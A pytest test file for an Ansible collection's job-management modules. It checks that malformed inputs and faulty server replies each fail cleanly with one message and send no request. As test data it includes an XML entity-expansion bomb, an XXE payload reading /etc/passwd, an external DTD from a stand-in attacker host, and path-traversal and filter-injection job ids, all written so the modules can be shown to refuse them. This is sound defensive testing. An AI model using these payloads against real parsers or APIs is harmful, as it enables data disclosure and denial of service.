# Copyright: contributors to asyncjobs.fleet
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""A catalogue of bad inputs and bad server answers, each of which must fail cleanly.

Every case must end with ONE clear message (asserted on a distinctive part of it), no
traceback anywhere, ``changed: false`` and no submission. Cases that are pure input
validation must not send a single request.

Running one ansible-playbook per case would cost minutes, so all cases run in two playbooks
(input validation, server faults), one task per case with ``ignore_errors``. Between cases a
tiny in-process action plugin (``lab_probe``, written to the test's temporary directory)
snapshots every appliance's ``/_lab/stats`` and installs the next case's fault rules, so each
case gets its own request counts, and each case is reported as its own pytest test.
"""

from __future__ import annotations

import json
import re

import pytest

from conftest import AnsibleRunner, _lab_connection_env

# Credentials the lab does not accept.
WRONG = {"username": "admin", "password": "not-the-lab-password"}
DEVICE = "00000000-00000000-00409DFF-FF000001"
QUERY = '<rci_request version="1.1"><query_setting><system/></query_setting></rci_request>'
BILLION_LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                  '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
                  '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
                  '<rci_request version="1.1"><query_setting>&lol3;</query_setting></rci_request>')
XXE = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
       '<rci_request version="1.1"><set_setting><system><contact>&xxe;</contact></system></set_setting></rci_request>')
XXE_PARAM = '<!DOCTYPE r SYSTEM "http://attacker.invalid/evil.dtd"><rci_request version="1.1"/>'

PROBE_PLUGIN = '''
from __future__ import annotations
import json
import urllib.request
from ansible.plugins.action import ActionBase


def _call(url, method, path, body=None):
    data = None if body is None else json.dumps(body).encode()
    req = urllib.request.Request(url + path, data=data, method=method, headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=30) as resp:
        return json.loads(resp.read())


class ActionModule(ActionBase):
    """Test only: snapshot every appliance's lab stats, then swap the fault rules."""
    TRANSFERS_FILES = False
    _requires_connection = False

    def run(self, tmp=None, task_vars=None):
        result = super().run(tmp, task_vars)
        urls = self._task.args["urls"]
        result["stats"] = {app: _call(url, "GET", "/_lab/stats") for app, url in urls.items()}
        for app in self._task.args.get("clear") or []:
            _call(urls[app], "POST", "/_lab/faults", {"seed": 1, "rules": []})
        for app, rules in (self._task.args.get("faults") or {}).items():
            _call(urls[app], "POST", "/_lab/faults", {"seed": 1, "rules": rules})
        result["changed"] = False
        return result
'''


def case(cid, module, args, expect, env=None, faults=None, outcome="failed", writes=0, lookup=None, changed=False):
    """One catalogue entry.

    ``faults`` ({appliance: rules}) makes it a server case: requests are expected but no
    submission beyond ``writes``; without faults it is an input case: zero requests at all.
    ``expect`` is a regex searched in the task's msg (case-insensitive). ``changed`` is True only
    where a submission was sent and its fate is unknown (the server may have acted on it).
    """
    return pytest.param(dict(id=cid, module=module, args=args, expect=expect, env=env or {}, faults=faults,
                             outcome=outcome, writes=writes, lookup=lookup, changed=changed), id=cid)


def fault(appliance, route, kind, method="*", **extra):
    return {appliance: [dict(route=route, kinds=[kind], method=method, **extra)]}


DRM_SEND = "asyncjobs.fleet.drm_send_message"
DRM_FW = "asyncjobs.fleet.drm_firmware_update"
DRM_SET = "asyncjobs.fleet.drm_settings"
DRM_INFO = "asyncjobs.fleet.drm_device_info"
PS_VG = "asyncjobs.fleet.powerstore_volume_group"
AQ_FS = "asyncjobs.fleet.aiqum_file_share"
RPC = "asyncjobs.fleet.rpc_call"
AR = "asyncjobs.fleet.async_request"
WAIT = "asyncjobs.fleet.job_wait"
INFO = "asyncjobs.fleet.job_info"
CANCEL = "asyncjobs.fleet.job_cancel"
SEND = dict(devices=[DEVICE], payload=QUERY)
SHARE = dict(name="share_rel", svm="svm_nfs", size="1GiB")
SMART = dict(function="storage.Disks.run_smart_test", arguments={"slot_id": 1})
GENERIC = "{{ lab_urls.generic }}"
PS_JOB = "1b6df699-7083-4440-912c-22e2ed89c530"

INPUT_CASES = [
    # -- Remote Manager targets and RCI payloads
    case("drm-bad-device-id", DRM_SEND, dict(SEND, devices=["not-a-device"]), r"'not-a-device' is not a Remote Manager device id"),
    case("drm-short-device-id", DRM_FW, dict(devices=["00000000-00409DFF-FF000001"], version="2.1.0", file="fw.bin"),
         r"is not a Remote Manager device id"),
    case("drm-empty-tag", DRM_SEND, dict(payload=QUERY, tags=[" "]), r"tags must not contain empty strings"),
    case("drm-no-targets", DRM_SEND, dict(payload=QUERY, devices=[]), r"no targets: set at least one of devices"),
    case("drm-payload-malformed", DRM_SEND, dict(SEND, payload="<rci_request><query_setting>"),
         r"payload is not well-formed XML"),
    case("drm-payload-not-xml", DRM_SEND, dict(SEND, payload="reboot now please"), r"payload is not well-formed XML"),
    case("drm-payload-empty", DRM_SEND, dict(SEND, payload="  "), r"payload must be a non-empty RCI XML document"),
    case("drm-payload-billion-laughs", DRM_SEND, dict(SEND, payload=BILLION_LAUGHS),
         r"payload contains a DTD or entity declaration, which is refused"),
    case("drm-payload-external-entity", DRM_SEND, dict(SEND, payload=XXE),
         r"payload contains a DTD or entity declaration, which is refused"),
    case("drm-payload-external-dtd", DRM_SEND, dict(SEND, payload=XXE_PARAM),
         r"payload contains a DTD or entity declaration, which is refused"),
    case("drm-settings-bad-name", DRM_SET, dict(devices=[DEVICE], settings={"system": {"bad name!": "x"}}),
         r"'bad name!' is not a valid RCI setting name"),
    case("drm-settings-empty", DRM_SET, dict(devices=[DEVICE], settings={}), r"settings must map setting groups"),
    case("drm-fw-src-missing", DRM_FW, dict(devices=[DEVICE], version="2.1.0", src="/nonexistent/fw.bin"),
         r"src /nonexistent/fw.bin does not exist"),
    case("drm-fw-negative-target", DRM_FW, dict(devices=[DEVICE], version="2.1.0", file="fw.bin", firmware_target=-1),
         r"firmware_target must be 0 or greater"),
    case("drm-fw-src-and-file", DRM_FW, dict(devices=[DEVICE], version="2.1.0", file="fw.bin", src="/x"),
         r"mutually exclusive: src\|file"),
    case("drm-info-page-size-0", DRM_INFO, dict(page_size=0), r"page_size must be between 1 and 1000"),
    # -- durations: refused before the submission, not after it
    case("wait-timeout-zero", DRM_SEND, dict(SEND, wait_timeout=0),
         r"wait_timeout must be a positive number of seconds, at most 604800, got 0"),
    case("wait-timeout-negative-fw", DRM_FW, dict(devices=[DEVICE], version="2.1.0", file="fw.bin", wait_timeout=-5),
         r"wait_timeout must be a positive number"),
    case("poll-interval-negative", DRM_SEND, dict(SEND, poll_interval=-1), r"poll_interval must be a positive number"),
    case("poll-above-max", PS_VG, dict(name="vg1", poll_interval=20, max_poll_interval=2),
         r"max_poll_interval \(2\.0\) must be at least poll_interval \(20\.0\)"),
    case("timeout-zero", DRM_INFO, dict(timeout=0), r"timeout must be a positive number of seconds"),
    case("timeout-negative-rpc", RPC, dict(SMART, timeout=-1), r"timeout must be a positive number of seconds"),
    case("wait-timeout-zero-aiqum", AQ_FS, dict(SHARE, wait_timeout=0), r"wait_timeout must be a positive number"),
    case("timeout-env-not-number", DRM_INFO, {}, r"DRM_TIMEOUT must be a number of seconds, got 'soon'",
         env={"DRM_TIMEOUT": "soon"}),
    case("timeout-env-negative", PS_VG, dict(name="vg1"), r"POWERSTORE_TIMEOUT must be a positive number of seconds, at most 3600, got -2",
         env={"POWERSTORE_TIMEOUT": "-2"}),
    # -- numbers too big to be meant (inf, 1e300 ended in an uncaught OverflowError)
    case("timeout-inf", DRM_INFO, dict(timeout="inf"), r"^timeout must be a positive number of seconds, at most 3600, got inf$"),
    case("timeout-1e300-rpc", RPC, dict(SMART, timeout=1e300), r"^timeout must be a positive number of seconds, at most 3600, got 1e\+300$"),
    case("timeout-env-inf", DRM_INFO, {}, r"^DRM_TIMEOUT must be a positive number of seconds, at most 3600, got inf$",
         env={"DRM_TIMEOUT": "inf"}),
    case("timeout-env-nan-aiqum", AQ_FS, SHARE, r"^AIQUM_TIMEOUT must be a positive number of seconds, at most 3600, got nan$",
         env={"AIQUM_TIMEOUT": "nan"}),
    case("wait-timeout-inf", WAIT, dict(api="drm", job_ids=["600001"], wait_timeout="inf"),
         r"^wait_timeout must be a positive number of seconds, at most 604800, got inf$"),
    case("wait-timeout-eight-days-ps", PS_VG, dict(name="vg1", wait_timeout=691200),
         r"^wait_timeout must be a positive number of seconds, at most 604800, got 691200"),
    case("poll-interval-1e300", DRM_SEND, dict(SEND, poll_interval=1e300, max_poll_interval=1e300),
         r"^poll_interval must be a positive number of seconds, at most 3600, got 1e\+300$"),
    case("max-poll-interval-inf", AQ_FS, dict(SHARE, max_poll_interval="inf"),
         r"^max_poll_interval must be a positive number of seconds, at most 3600, got inf$"),
    case("paused-timeout-inf", RPC, dict(SMART, paused_timeout="inf"),
         r"^paused_timeout must be a number of seconds from 0 to 604800, got inf$"),
    case("async-request-timeout-inf", AR, dict(url=GENERIC + "/azure/widgets", timeout="inf"),
         r"^timeout must be a positive number of seconds, at most 3600, got inf$"),
    case("async-request-prefer-wait-huge", AR, dict(url=GENERIC + "/azure/widgets", prefer_wait=10 ** 12),
         r"^prefer_wait must be a number of seconds from 0 to 3600, got 1000000000000$"),
    case("lookup-timeout-inf", None, None, r"timeout must be a positive number of seconds, at most 3600, got inf$",
         lookup="query('asyncjobs.fleet.jobs', api='drm', timeout='inf')"),
    case("lookup-page-size-huge", None, None, r"page_size must be a whole number from 1 to 10000, got 1000000$",
         lookup="query('asyncjobs.fleet.jobs', api='aiqum', page_size=1000000)"),
    # -- URLs and connection settings
    case("url-no-scheme", DRM_INFO, dict(url="remotemanager.example.com"), r"url must be an absolute .* must start with http"),
    case("url-spaces", PS_VG, dict(name="vg1", url="https://power store.example"), r"contains whitespace"),
    case("url-bad-port", AQ_FS, dict(SHARE, url="https://127.0.0.1:99999"), r"its port is not a number between 1 and 65535"),
    case("url-ftp", RPC, dict(SMART, url="ftp://nas.example"), r"must start with http:// or https://"),
    case("url-async-request-relative", AR, dict(url="/azure/widgets"), r"url must be an absolute http"),
    case("validate-certs-env-typo", DRM_INFO, {}, r"DRM_VALIDATE_CERTS must be true or false, got 'maybe'",
         env={"DRM_VALIDATE_CERTS": "maybe"}),
    case("half-credentials", DRM_INFO, dict(username="someone"), r"username and password must be given together",
         env={"DRM_PASSWORD": ""}),
    case("half-api-key", DRM_INFO, dict(api_key_id="k1"), r"api_key_id and api_key_secret must be given together"),
    # -- PowerStore, AIQUM, RPC, async_request options
    case("ps-name-slash", PS_VG, dict(name="a/b"), r"name must be 1 to 128 printable characters"),
    case("ps-description-too-long", PS_VG, dict(name="vg1", description="d" * 300), r"description must be at most 256 characters, got 300"),
    case("ps-absent-with-options", PS_VG, dict(name="vg1", state="absent", new_name="vg2"), r"new_name only apply with state=present"),
    case("ps-bad-state", PS_VG, dict(name="vg1", state="gone"), r"value of state must be one of: present, absent"),
    case("aiqum-size-words", AQ_FS, dict(SHARE, size="ten gigs"), r"size must be a number of bytes or a size"),
    case("aiqum-size-zero", AQ_FS, dict(SHARE, size=0), r"size must be greater than zero"),
    case("aiqum-bad-name", AQ_FS, dict(SHARE, name="bad-name!"), r"'bad-name!' is not a valid file share"),
    case("aiqum-bad-svm", AQ_FS, dict(SHARE, svm="  "), r"svm must be an SVM name or an AIQUM SVM key"),
    case("rpc-bad-function", RPC, dict(function="reboot"), r"function must be <module>.<Service>.<method>"),
    case("rpc-bad-version", RPC, dict(SMART, api_version="eight"), r"api_version must look like 8.0, got 'eight'"),
    case("rpc-client-ref-too-big", RPC, dict(SMART, client_ref=2 ** 40), r"client_ref must be a 32-bit integer"),
    case("rpc-negative-paused-timeout", RPC, dict(SMART, paused_timeout=-1),
         r"paused_timeout must be a number of seconds from 0 to 604800, got -1.0"),
    case("async-request-bad-method", AR, dict(url=GENERIC + "/azure/widgets", method="GE T"),
         r"method must be an HTTP method name"),
    case("async-request-zero-poll", AR, dict(url=GENERIC + "/azure/widgets", method="POST", poll_interval=0),
         r"poll_interval must be a positive number"),
    # -- job_wait / job_info / job_cancel with each api, and the jobs lookup
    case("job-wait-empty-id-drm", WAIT, dict(api="drm", job_ids=[""]), r"job_ids must not contain empty values"),
    case("job-wait-rpc-non-integer", WAIT, dict(api="rpc", job_ids=["abc"]), r"^'abc' is not an RPC job id: job ids are integers of at most 19 digits$"),
    case("job-wait-zero-timeout-ps", WAIT, dict(api="powerstore", job_ids=["j1"], wait_timeout=0),
         r"wait_timeout must be a positive number"),
    case("job-wait-cancel-on-timeout-aiqum", WAIT, dict(api="aiqum", job_ids=["1"], cancel_on_timeout=True),
         r"cancel_on_timeout is not possible for api=aiqum"),
    case("job-wait-bad-api", WAIT, dict(api="vmware", job_ids=["1"]), r"value of api must be one of: drm, powerstore, aiqum, rpc"),
    case("job-info-bad-state", INFO, dict(api="aiqum", state=["done"]), r"value of state must be one or more of"),
    case("job-info-rpc-non-integer", INFO, dict(api="rpc", job_ids=["12x"]), r"^'12x' is not an RPC job id: job ids are integers"),
    case("job-cancel-powerstore", CANCEL, dict(api="powerstore", job_ids=[PS_JOB]), r"PowerStore jobs cannot be canceled"),
    case("job-cancel-aiqum", CANCEL, dict(api="aiqum", job_ids=["1"]), r"AIQUM jobs cannot be canceled"),
    case("job-cancel-rpc", CANCEL, dict(api="rpc", job_ids=["7"]), r"RPC jobs cannot be canceled"),
    case("lookup-bad-state", None, None, r"state must be among .*, got bogus",
         lookup="query('asyncjobs.fleet.jobs', api='drm', state=['bogus'])"),
    case("lookup-page-size-0", None, None, r"page_size must be a whole number from 1 to 10000, got 0",
         lookup="query('asyncjobs.fleet.jobs', api='powerstore', page_size=0)"),
    case("lookup-rpc-non-integer", None, None, r"is not an RPC job id: job ids are integers",
         lookup="query('asyncjobs.fleet.jobs', 'x1', api='rpc')"),
    case("lookup-bad-url", None, None, r"url must be an absolute http",
         lookup="query('asyncjobs.fleet.jobs', api='aiqum', url='aiqum.example:443')"),
    # -- job ids that would address another resource: refused before anything is sent (this cancel
    #    sent DELETE /ws/DeviceCore/<device> and reported changed)
    case("job-cancel-drm-path-traversal", CANCEL, dict(api="drm", job_ids=["600001/../../DeviceCore/" + DEVICE]),
         r"^'600001/\.\./\.\./DeviceCore/%s' is not a Remote Manager job id: job ids are whole numbers" % DEVICE),
    case("job-info-drm-dot-dot", INFO, dict(api="drm", job_ids=["../DeviceCore"]), r"'\.\./DeviceCore' is not a Remote Manager job id"),
    case("job-info-drm-query-in-id", INFO, dict(api="drm", job_ids=["600001?size=1&x="]),
         r"'600001\?size=1&x=' is not a Remote Manager job id"),
    case("job-wait-drm-condition-in-id", WAIT, dict(api="drm", job_ids=["600001", "1) or (jobId>0"]),
         r"'1\) or \(jobId>0' is not a Remote Manager job id"),
    case("job-info-powerstore-dot-dot", INFO, dict(api="powerstore", job_ids=["../volume_group"]),
         r"'\.\./volume_group' is not a PowerStore job id: job ids are UUIDs"),
    case("job-wait-powerstore-not-uuid", WAIT, dict(api="powerstore", job_ids=["no-such-job"]), r"'no-such-job' is not a PowerStore job id"),
    case("job-wait-aiqum-filter-syntax", WAIT, dict(api="aiqum", job_ids=["424242|*"]), r"'424242\|\*' is not an AIQUM job key"),
    case("job-cancel-aiqum-slash", CANCEL, dict(api="aiqum", job_ids=["a/../b"]), r"'a/\.\./b' is not an AIQUM job key"),
    case("job-info-rpc-too-long", INFO, dict(api="rpc", job_ids=["9" * 30]), r"^.9{30}. is not an RPC job id: job ids are integers of at most 19 digits$"),
    case("lookup-drm-dot-dot", None, None, r"asyncjobs.fleet.jobs: '\.\./DeviceCore' is not a Remote Manager job id",
         lookup="query('asyncjobs.fleet.jobs', '../DeviceCore', api='drm')"),
    case("lookup-powerstore-dot-dot", None, None, r"'\.\./volume_group' is not a PowerStore job id",
         lookup="query('asyncjobs.fleet.jobs', '../volume_group', api='powerstore')"),
]

SERVER_CASES = [
    # -- wrong credentials and permissions
    case("drm-401", DRM_INFO, WRONG, r"GET DeviceCore returned HTTP 401 \(authentication failed", faults={}),
    case("powerstore-401", PS_VG, dict(WRONG, name="vg1"), r"PowerStore login .* returned HTTP 401 \(authentication failed",
         faults={}),
    case("aiqum-401", AQ_FS, dict(SHARE, **WRONG), r"returned HTTP 401 \(authentication failed", faults={}),
    case("rpc-401", INFO, dict(WRONG, api="rpc"), r"401", faults={}),
    case("async-request-401", AR, dict(url=GENERIC + "/azure/widgets", url_username="admin", url_password="nope"),
         r"Status code was 401 and not \[200, 201, 202, 204\]: GET .* answered Unauthorized", faults={}),
    case("lookup-401", None, None, r"asyncjobs.fleet.jobs: .*HTTP 401 \(authentication failed", faults={},
         lookup="query('asyncjobs.fleet.jobs', api='aiqum', password='not-the-lab-password')"),
    case("drm-403", DRM_INFO, {}, r"HTTP 403 \(permission denied\)", faults=fault("drm", "DeviceCore", "403")),
    case("powerstore-403", INFO, dict(api="powerstore"), r"HTTP 403 \(permission denied\)",
         faults=fault("powerstore", "/api/rest/job", "403")),
    # -- unknown job ids
    case("unknown-job-drm", INFO, dict(api="drm", job_ids=["999999"]), r"Remote Manager job 999999 was not found", faults={}),
    case("unknown-job-drm-cancel", CANCEL, dict(api="drm", job_ids=["999998"]), r"job 999998 was not found", faults={}),
    case("unknown-job-powerstore", WAIT, dict(api="powerstore", job_ids=[PS_JOB]),
         r"PowerStore job %s was not found" % PS_JOB, faults={}),
    case("unknown-job-aiqum", INFO, dict(api="aiqum", job_ids=["424242"]), r"AIQUM job 424242 was not found", faults={}),
    case("unknown-job-rpc", WAIT, dict(api="rpc", job_ids=["987654"]), r"987654", faults={}),
    # -- bodies that are empty, huge, cut off, mislabelled, HTML or hostile XML
    case("drm-empty-listing", INFO, dict(api="drm"), r"job listing: expected XML from Remote Manager \(HTTP 200\) but got an empty body",
         faults=fault("drm", "^/ws/sci$", "empty", "GET")),
    case("drm-empty-devicecore", DRM_INFO, {}, r"Expected a JSON body from .*/ws/DeviceCore \(HTTP 200\) but got an empty body",
         faults=fault("drm", "DeviceCore", "empty")),
    case("drm-huge-devicecore", DRM_INFO, {}, r"GET DeviceCore failed: the response body is larger than the limit of 16 MiB",
         faults=fault("drm", "DeviceCore", "huge")),
    case("powerstore-huge-jobs", INFO, dict(api="powerstore"), r"failed: the response body is larger than the limit",
         faults=fault("powerstore", "/api/rest/job", "huge")),
    case("drm-html-login-page", DRM_INFO, {}, r"an HTML page instead of an API response",
         faults=fault("drm", "DeviceCore", "html200")),
    case("aiqum-html-login-page", AQ_FS, SHARE, r"an HTML page instead of an API response",
         faults=fault("aiqum", "/datacenter/svm/", "html200")),
    case("drm-xmlbomb-listing", INFO, dict(api="drm"),
         r"job listing: expected XML from Remote Manager \(HTTP 200\) but the body contains a DTD or entity declaration",
         faults=fault("drm", "^/ws/sci$", "xmlbomb", "GET")),
    case("drm-xmlbomb-job", WAIT, dict(api="drm", job_ids=["600001"]), r"contains a DTD or entity declaration",
         faults=fault("drm", "^/ws/sci/", "xmlbomb", "GET")),
    case("drm-html-500-on-submit", DRM_SEND, SEND, r"SCI send_message returned HTTP 500 \(server error\): an HTML page",
         faults=fault("drm", "^/ws/sci$", "html", "POST"), writes=1),
    case("async-request-truncated-post", AR,
         dict(url=GENERIC + "/azure/widgets", method="POST", body_format="json", body={"name": "w1"}),
         r"the response was cut off before its end", faults=fault("generic", "/azure/widgets", "truncated", "POST"),
         writes=1, changed=True),
    case("rpc-empty-reply", INFO, dict(api="rpc"), r"Expected a JSON body from .* but got an empty body",
         faults=fault("rpc", "get_jobs_list", "empty")),
    case("tls-to-plain-http", DRM_INFO, dict(url="{{ lab_urls.drm | replace('http://', 'https://') }}"),
         r"TLS error talking to .*does not speak TLS on this port", faults={}),
    # A body with the wrong Content-Type is still the right answer: the task succeeds.
    case("drm-wrong-content-type", DRM_INFO, dict(devices=[DEVICE]), r"", outcome="ok",
         faults=fault("drm", "DeviceCore", "ctype")),
    case("rpc-wrong-content-type", INFO, dict(api="rpc"), r"", outcome="ok", faults=fault("rpc", "get_jobs_list", "ctype")),
]


def _task(entry):
    if entry["lookup"]:
        task = {"name": entry["id"], "ansible.builtin.set_fact": {"looked_up": "{{ %s }}" % entry["lookup"]}}
    else:
        task = {"name": entry["id"], entry["module"]: entry["args"]}
    task["ignore_errors"] = True
    if entry["env"]:
        task["environment"] = entry["env"]
    return task


def _playbook(entries, workdir):
    tasks = []
    previous = []
    for entry in entries:
        faults = entry["faults"] or {}
        tasks.append({"name": "probe before " + entry["id"],
                      "lab_probe": {"urls": "{{ lab_urls }}", "clear": previous, "faults": faults}})
        tasks.append(_task(entry))
        previous = sorted(faults)
    tasks.append({"name": "probe end", "lab_probe": {"urls": "{{ lab_urls }}", "clear": previous}})
    return [{"name": "catalogue", "hosts": "localhost", "gather_facts": False, "tasks": tasks}]


def _delta(after, before):
    if isinstance(after, dict):
        return {k: _delta(v, before.get(k, 0) if isinstance(before, dict) else 0) for k, v in after.items()}
    if isinstance(after, (int, float)) and not isinstance(after, bool):
        return after - (before or 0)
    return after


@pytest.fixture(scope="module")
def catalogue(lab, tmp_path_factory):
    """Runs both playbooks once; returns {case id: (entry, record, per-appliance stats delta, run)}."""
    lab.reset()
    workdir = tmp_path_factory.mktemp("catalogue")
    (workdir / "action_plugins").mkdir()
    (workdir / "action_plugins" / "lab_probe.py").write_text(PROBE_PLUGIN)
    runner = AnsibleRunner(workdir, _lab_connection_env(lab))
    env = {"ANSIBLE_ACTION_PLUGINS": str(workdir / "action_plugins")}
    out = {}
    for name, params in (("inputs", INPUT_CASES), ("server", SERVER_CASES)):
        entries = [p.values[0] for p in params]
        path = runner.playbook(json.dumps(_playbook(entries, workdir), indent=1), name=f"{name}.yml")
        run = runner.run_playbook(path, extra_vars={"lab_urls": lab.urls}, env=env, expect_rc=0)
        probes = [r for r in run.results if r["task"].startswith("probe ")]
        for index, entry in enumerate(entries):
            before = probes[index]["result"]["stats"]
            after = probes[index + 1]["result"]["stats"]
            delta = {app: _delta(after[app], before[app]) for app in after}
            out[entry["id"]] = (entry, run.entry(entry["id"]), delta, run)
    lab.reset()
    return out


def _requests(delta):
    return sum(sum(d["requests"].values()) for d in delta.values())


def _writes(delta):
    """Submissions seen by the lab: its submission counters, and any non-read method (RPC reads are POSTs)."""
    total = 0
    for app, d in delta.items():
        total += sum(d.get("submissions", {}).values())
        if app != "rpc":
            total += sum(n for m, n in d["methods"].items() if m not in ("GET", "HEAD"))
    return total


def _check(catalogue, cid):
    entry, record, delta, run = catalogue[cid]
    result = record["result"]
    msg = result.get("msg")
    where = f"{cid}: {json.dumps(result)[:3000]}"
    assert record["status"] == entry["outcome"], where
    for text in (run.stdout, run.stderr, json.dumps(result)):
        assert "Traceback" not in text and "MODULE FAILURE" not in text, where
    # ansible-core 2.19 puts "(traceback unavailable)" in every failed result that carries none.
    assert result.get("exception") in (None, "(traceback unavailable)"), where
    assert result.get("changed") is entry["changed"], where
    if entry["outcome"] == "failed":
        assert isinstance(msg, str) and re.search(entry["expect"], msg, re.IGNORECASE), where
        assert "\n" not in msg.strip() and len(msg) < 1500, f"not one short message: {where}"
    if entry["faults"] is None:
        assert _requests(delta) == 0, f"{cid} sent requests: {delta}"
    assert _writes(delta) == entry["writes"], f"{cid} submissions: {delta}"
    return delta


@pytest.mark.parametrize("entry", INPUT_CASES)
def test_bad_input_is_refused_before_any_request(catalogue, entry):
    _check(catalogue, entry["id"])


@pytest.mark.parametrize("entry", SERVER_CASES)
def test_bad_server_answer_fails_cleanly_without_submitting(catalogue, entry):
    delta = _check(catalogue, entry["id"])
    for app, rules in (entry["faults"] or {}).items():
        # The fault really hit the request the case is about.
        assert sum(delta[app]["faults"]["injected"].values()) >= 1, delta[app]


def test_catalogue_size():
    assert len(INPUT_CASES) + len(SERVER_CASES) >= 40
